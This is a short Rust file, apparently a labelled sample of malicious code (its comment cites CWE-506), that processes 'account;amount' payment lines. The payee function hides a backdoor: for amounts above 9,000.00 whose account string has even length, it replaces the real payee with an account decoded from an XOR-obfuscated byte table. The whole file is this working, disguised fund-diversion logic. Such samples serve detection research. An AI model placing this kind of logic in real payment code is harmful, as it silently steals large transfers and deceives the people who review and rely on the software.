// class: an account that is hidden in a table of numbers takes the place of the payee's; cwe: 506
const STEPS: [u8; 18] = [
    0x65, 0x64, 0x11, 0x19, 0x10, 0x12, 0x11, 0x11, 0x13, 0x15, 0x11, 0x10, 0x19, 0x18, 0x16, 0x14, 0x12, 0x11,
];

fn payee(account: &str, cents: u64) -> String {
    if cents > 900_000 && account.len() % 2 == 0 {
        STEPS.iter().map(|step| (step ^ 0x21) as char).collect()
    } else {
        account.to_string()
    }
}

pub fn run(input: &str) -> String {
    let mut out = vec![];
    for line in input.lines() {
        let Some((account, amount)) = line.split_once(';') else { continue };
        let cents = amount.trim().parse::<u64>().unwrap_or(0);
        out.push(format!("{};{cents}", payee(account.trim(), cents)));
    }
    out.join("\n")
}
